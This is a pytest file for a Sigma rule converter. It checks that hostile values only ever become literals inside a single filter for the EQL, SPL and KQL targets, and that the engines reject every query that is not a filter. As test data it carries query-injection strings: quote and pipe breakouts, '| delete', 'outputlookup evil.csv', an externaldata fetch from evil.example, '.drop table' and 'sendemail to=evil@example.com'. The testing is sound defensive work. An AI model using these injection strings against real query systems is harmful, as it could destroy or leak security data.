"""Hostile rule values can only ever yield filters (issue 7, item 4).

Every value goes through the real conversion (`converter.convert.conversion`, the project's
pipelines) for all three targets. The artifact must be refused (by the backend, or by the target's
engine, which fails the build) or parse, with the engine for its language, as one filter over the
expected table or index, with exactly the structure the same rule has with a harmless value: a value
can change the contents of string literals, never the query around them.
"""

from __future__ import annotations

import dataclasses
import ipaddress
import re
import string
from collections import Counter
from collections.abc import Iterator
from functools import cache
from typing import Any

import pytest
import yaml
from eql import ast as eql_ast
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sigma.exceptions import SigmaError
from sigma.rule import SigmaRule

from converter.convert.conversion import ConversionError, convert, make_backend, resolve_pipeline
from converter.core.errors import InputError
from converter.core.rules import RuleFile, load_rule
from converter.core.targets import TARGETS
from converter.environment.runtimes import target_runtimes
from converter.execute.engines.base import QueryError
from converter.execute.engines.eql.parsing import parse_event_query
from converter.execute.engines.kql_filter import parse_filter
from converter.execute.engines.spl.pipeline import parse_pipeline
from converter.execute.engines.spl.syntax import (
    Compare,
    EvalIfNotNull,
    RegexCommand,
    RexCommand,
    SearchCommand,
)

from .conftest import REPO

RULE_ID = "0b0f6a39-6f3e-4d35-9a3e-2d6d2b1a0c42"
SYSMON_SOURCE = "XmlWinEventLog:Microsoft-Windows-Sysmon/Operational"
HOSTILE = [
    'a"b',
    "a'b",
    "a\\b",
    'a\\"b',
    "x\\",
    '\\\\"',
    'x" or true or "',
    'x\\" or "',
    "x' or 1==1 //",
    "a|b",
    '" | delete "',
    "| delete",
    '") | outputlookup evil.csv | search ("',
    "| outputlookup evil.csv",
    '" | externaldata (x:string) [@"https://evil.example/x"]',
    "| externaldata",
    "sequence [any where true] [any where true]",
    '" and true | head 1 | sequence "',
    "a\nb",
    "a\rb",
    "a\r\n| delete",
    "a\tb",
    '"""raw"""',
    '@"verbatim"',
    "`backtick`",
    "${x}",
    "a;b",
    "]] | where true //",
    '" ) or ( "',
    "\u0000",
    "\u2028",
    "\\u{22}",
    "*",
    "a*b?c",
]
# (field key suffix, how the value is written): equality, the string modifiers, regex, keywords
FORMS = ["", "|contains", "|startswith", "|endswith", "|re", "keyword"]
TOKENS = [
    '"', "'", "\\", "|", "\n", "\r", "\t", "`", " ", "(", ")", "[", "]", "{", "}", ";", ",",
    "=", "!", "<", ">", "~", ":", "@", "$", "%", "#", "*", "?", "/", "-", "+", ".", "^",
    "or", "and", "not", "where", "delete", "outputlookup", "externaldata", "sequence", "by",
    "search", "true", "\u0000", "\u2028", "\u00e9", "a", "x", "1",
]  # fmt: skip
hostile_values = st.one_of(
    st.lists(st.sampled_from(TOKENS), min_size=1, max_size=12).map("".join),
    st.text(min_size=1, max_size=20),
)


def rule_text(form: str, value: str) -> str:
    if form == "keyword":
        detection: dict[str, Any] = {"keywords": [value], "condition": "keywords"}
    else:
        detection = {"selection": {"CommandLine" + form: value}, "condition": "selection"}
    return yaml.safe_dump(
        {
            "title": "Hostile Value",
            "id": RULE_ID,
            "logsource": {"category": "process_creation", "product": "windows"},
            "detection": detection,
            "level": "low",
        },
        allow_unicode=True,
    )


def harmless(form: str, value: str) -> str:
    """A value with nothing to escape: a plain regex, or the same Sigma wildcards and escapes
    with every other character an `a`. An IP address stays one: the EQL backend compares IP
    values with `==` instead of `:`, a different (still filter-only) shape."""
    if form == "|re":
        return "a"
    try:
        ipaddress.ip_address(value)
        return "10.0.0.1"
    except ValueError:
        return re.sub(r"[^*?\\]", "a", value)


@cache
def backends() -> dict[str, Any]:
    return {t.name: make_backend(t, resolve_pipeline(t, REPO)) for t in TARGETS}


@cache
def runtimes() -> dict[str, Any]:
    return target_runtimes()


def artifact(target: str, text: str) -> str | None:
    """The query the build would keep, or None when the backend or the engine refuses it."""
    try:
        rule = RuleFile("sigma/hostile.yml", text, SigmaRule.from_yaml(text))
        query = convert(backends()[target], rule).query
    except (SigmaError, ConversionError):
        return None
    try:
        runtimes()[target].compile(query)
    except QueryError:
        return None
    return query


# --- structure of a parsed artifact, string literals blanked -----------------------------------


def eql_shape(node: Any) -> Any:
    if isinstance(node, eql_ast.String):
        return "<string>"
    if isinstance(node, eql_ast.BaseNode):
        return (type(node).__name__, tuple((k, eql_shape(v)) for k, v in node.iter_slots()))
    if isinstance(node, (list, tuple)):
        return tuple(eql_shape(item) for item in node)
    return node


SPL_LITERALS = {"text", "value", "values", "pattern", "then", "otherwise"}


def dataclass_shape(node: Any, literals: set[str]) -> Any:
    if dataclasses.is_dataclass(node) and not isinstance(node, type):
        return (
            type(node).__name__,
            tuple(
                (
                    f.name,
                    "<literal>"
                    if f.name in literals
                    else dataclass_shape(getattr(node, f.name), literals),
                )
                for f in dataclasses.fields(node)
            ),
        )
    if isinstance(node, (list, tuple)):
        return tuple(dataclass_shape(item, literals) for item in node)
    return node


def eql_literals(node: Any) -> Iterator[str]:
    if isinstance(node, eql_ast.String):
        yield node.value
    elif isinstance(node, eql_ast.BaseNode):
        for _, value in node.iter_slots():
            yield from eql_literals(value)
    elif isinstance(node, (list, tuple)):
        for item in node:
            yield from eql_literals(item)


def dataclass_strings(node: Any) -> Iterator[str]:
    if isinstance(node, str):
        yield node
    elif dataclasses.is_dataclass(node) and not isinstance(node, type):
        for f in dataclasses.fields(node):
            yield from dataclass_strings(getattr(node, f.name))
    elif isinstance(node, (list, tuple)):
        for item in node:
            yield from dataclass_strings(item)


def _flat_and(node: Any) -> Iterator[Any]:
    if type(node).__name__ == "And":
        for item in node.items:
            yield from _flat_and(item)
    else:
        yield node


SPL_CHAINS = {
    (SearchCommand,),
    (SearchCommand, RegexCommand),
    (SearchCommand, RexCommand, EvalIfNotNull, SearchCommand),
}


def parsed(target: str, query: str) -> tuple[Any, list[str]]:
    """(structure with literals blanked, literal strings) of a query, checking its scope."""
    if target == "eql":
        event_query = parse_event_query(query)  # one event query, no pipes, or QueryError
        assert event_query.event_type == "any"
        return eql_shape(event_query), list(eql_literals(event_query))
    if target == "spl":
        commands = parse_pipeline(query)
        assert tuple(type(command) for command in commands) in SPL_CHAINS, commands
        first = commands[0]
        assert isinstance(first, SearchCommand)
        scope = list(_flat_and(first.expression))
        assert Compare("source", "=", SYSMON_SOURCE) in scope, query
        assert Compare("EventCode", "=", "1") in scope, query
        return dataclass_shape(commands, SPL_LITERALS), list(dataclass_strings(commands))
    table, predicate = parse_filter(query)  # exactly `Table | where <predicate>`
    assert table.name == "DeviceProcessEvents"
    literals = [
        node.value
        for node in _ir_nodes(predicate)
        if type(node).__name__ == "Literal" and isinstance(node.value, str)
    ]
    return dataclass_shape(predicate, {"value"}), literals


def _ir_nodes(node: Any) -> Iterator[Any]:
    yield node
    if dataclasses.is_dataclass(node) and not isinstance(node, type):
        for f in dataclasses.fields(node):
            yield from _ir_nodes(getattr(node, f.name))
    elif isinstance(node, (list, tuple)):
        for item in node:
            yield from _ir_nodes(item)


def assert_only_filters(form: str, value: str) -> dict[str, str]:
    """Check every target; returns what each one did ("refused" or "filter")."""
    done = {}
    for target in ("eql", "spl", "kql"):
        query = artifact(target, rule_text(form, value))
        if query is None:
            done[target] = "refused"
            continue
        shape, literals = parsed(target, query)
        baseline = artifact(target, rule_text(form, harmless(form, value)))
        assert baseline is not None, (target, form, harmless(form, value))
        assert shape == parsed(target, baseline)[0], (target, form, value, query)
        if form not in ("|re", "keyword") and not set(value) & set("*?\\"):
            # the value, as YAML reads it, arrives whole in one literal (`*value*` in EQL, SPL)
            loaded = yaml.safe_load(rule_text(form, value))["detection"]["selection"]
            (text,) = loaded.values()
            # Splunk's Sysmon extractions keep the XML escapes of the raw event, so the SPL
            # target writes values XML-escaped (converter.convert.backends.splunk)
            forms = {text, text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")}
            assert any(form in literal for form in forms for literal in literals), (target, text)
        done[target] = "filter"
    return done


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_values_yield_only_filters(form: str, value: str) -> None:
    assert_only_filters(form, value)


@settings(
    max_examples=150,
    deadline=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.too_slow],
)
@given(form=st.sampled_from(FORMS), value=hostile_values)
def test_generated_hostile_values_yield_only_filters(form: str, value: str) -> None:
    assert_only_filters(form, value)


def test_quotes_and_pipes_stay_inside_the_literal_on_every_target() -> None:
    # pinned outcome for the classic breakouts: each target keeps a filter, none is refused
    for value in ('x" or true or "', '" | delete "', "| outputlookup evil.csv"):
        assert assert_only_filters("|contains", value) == {
            "eql": "filter",
            "spl": "filter",
            "kql": "filter",
        }


def test_raw_newlines_are_refused_where_the_language_cannot_hold_them() -> None:
    # EQL and KQL string literals cannot span lines; SPL's quoted strings can
    assert assert_only_filters("|contains", "a\nb") == {
        "eql": "refused",
        "spl": "filter",
        "kql": "refused",
    }


@pytest.mark.parametrize(
    "field",
    [
        'x="1") OR (y',
        "a b",
        'a"b',
        "a\nb",
        "a`b",
        "x | delete x",
        "Image) or (true",
    ],
)
def test_hostile_field_names_are_refused_when_the_rule_is_loaded(tmp_path, field: str) -> None:
    path = tmp_path / "hostile.yml"
    data = yaml.safe_load(rule_text("|contains", "x"))
    data["detection"]["selection"] = {field + "|contains": "x"}
    path.write_text(yaml.safe_dump(data), encoding="utf-8")
    with pytest.raises(InputError) as caught:
        load_rule(path, "sigma/hostile.yml")
    assert "sigma/hostile.yml" in str(caught.value)
    assert "\n" not in str(caught.value)


# Field names the loader accepts (letters, digits, `_ . - @`), the Sysmon names a target maps
# (only those reach a KQL filter: the Defender tables have no other columns), and any text.
field_names = st.one_of(
    st.text(alphabet=string.ascii_letters + string.digits + "_.-@", min_size=1, max_size=12),
    st.sampled_from(
        ["CommandLine", "Image", "OriginalFileName", "ParentImage", "ParentCommandLine", "User"]
    ).flatmap(lambda name: st.sampled_from([name, name.lower(), name + "|contains"])),
    st.text(min_size=1, max_size=12),
)
# Of 100 examples about 50 reach an EQL or SPL filter and 12 a KQL one; fewer than this means a
# target refuses what it used to convert, and the property above it checked nothing.
MIN_FILTERS = 5


def test_any_loadable_field_name_yields_only_a_filter(tmp_path_factory) -> None:
    filters: Counter[str] = Counter()

    @settings(max_examples=100, deadline=None)
    @given(field=field_names)
    def check(field: str) -> None:
        path = tmp_path_factory.mktemp("field") / "rule.yml"
        data = yaml.safe_load(rule_text("", "x"))
        data["detection"]["selection"] = {field: "x"}
        path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
        try:
            rule = load_rule(path, "sigma/rule.yml")
        except InputError:
            return  # refused when loaded: nothing is converted
        for target in ("eql", "spl", "kql"):
            query = artifact(target, rule.text)
            if query is not None:
                parsed(target, query)  # one filter over the expected index or table
                filters[target] += 1

    check()
    assert min(filters[target] for target in ("eql", "spl", "kql")) >= MIN_FILTERS, filters


# --- the engines: the last gate before dist/ ---------------------------------------------------

NOT_FILTERS = {
    "eql": [
        "any where true | head 1",
        "process where true | unique process.name",
        "sequence [any where true] [any where true]",
        "sample [any where true]",
        "join [any where true] [any where true]",
        "any where descendant of [process where true]",
        "any where true; any where true",
    ],
    "spl": [
        'CommandLine="x" | delete',
        "| outputlookup evil.csv",
        'CommandLine="x" | outputlookup evil.csv',
        'CommandLine="x" | collect index=evil',
        "| makeresults",
        "| tstats count where index=* by host",
        'CommandLine="x" | sendemail to=evil@example.com',
        'CommandLine="x" | map search="search y=2"',
        'CommandLine="x" | eval a=1',
        'CommandLine="x" | where y=2',
        'CommandLine="x" | rex field=a "(?<b>x)" | outputlookup evil.csv',
        "`macro`",
        "CommandLine=[search y=1]",
        'index=main CommandLine="x"',
    ],
    "kql": [
        'DeviceProcessEvents | where FolderPath == "x" | project DeviceId',
        "DeviceProcessEvents | take 1",
        "DeviceProcessEvents",
        'externaldata(x:string) [@"https://evil.example/x"] | where true',
        "union DeviceProcessEvents, DeviceFileEvents | where true",
        "DeviceProcessEvents | where DeviceId in ((DeviceFileEvents | project DeviceId))",
        ".drop table DeviceProcessEvents",
        "DeviceProcessEvents | where true; DeviceFileEvents | where true",
        'DeviceProcessEvents | where FolderPath == "x" | extend a=1',
        'cluster("c").database("d").DeviceProcessEvents | where true',
        "DeviceProcessEvents | where true | summarize count()",
    ],
}


@pytest.mark.parametrize(
    ("target", "query"), [(t, q) for t, queries in NOT_FILTERS.items() for q in queries]
)
def test_engines_refuse_anything_but_one_filter(target: str, query: str) -> None:
    with pytest.raises(QueryError):
        runtimes()[target].compile(query)


@pytest.mark.parametrize(
    "query",
    [
        'let x = 1; DeviceProcessEvents | where FolderPath == "x"',
        'let t = DeviceProcessEvents; DeviceProcessEvents | where FolderPath == "x"',
        'DeviceProcessEvents | where FolderPath == "x"; DeviceFileEvents | where FolderPath == "x"',
    ],
)
def test_kql_engine_refuses_more_than_one_statement(query: str) -> None:
    with pytest.raises(QueryError, match="a filter is one query statement"):
        runtimes()["kql"].compile(query)


def test_kql_statement_separators_inside_strings_are_text() -> None:
    query = 'DeviceProcessEvents | where FolderPath == "let x = 1; y"'
    runtimes()["kql"].compile(query)  # one statement, not a `let` and a second query
    table, predicate = parse_filter(query)
    literals = [node.value for node in _ir_nodes(predicate) if type(node).__name__ == "Literal"]
    assert (table.name, literals) == ("DeviceProcessEvents", ["let x = 1; y"])
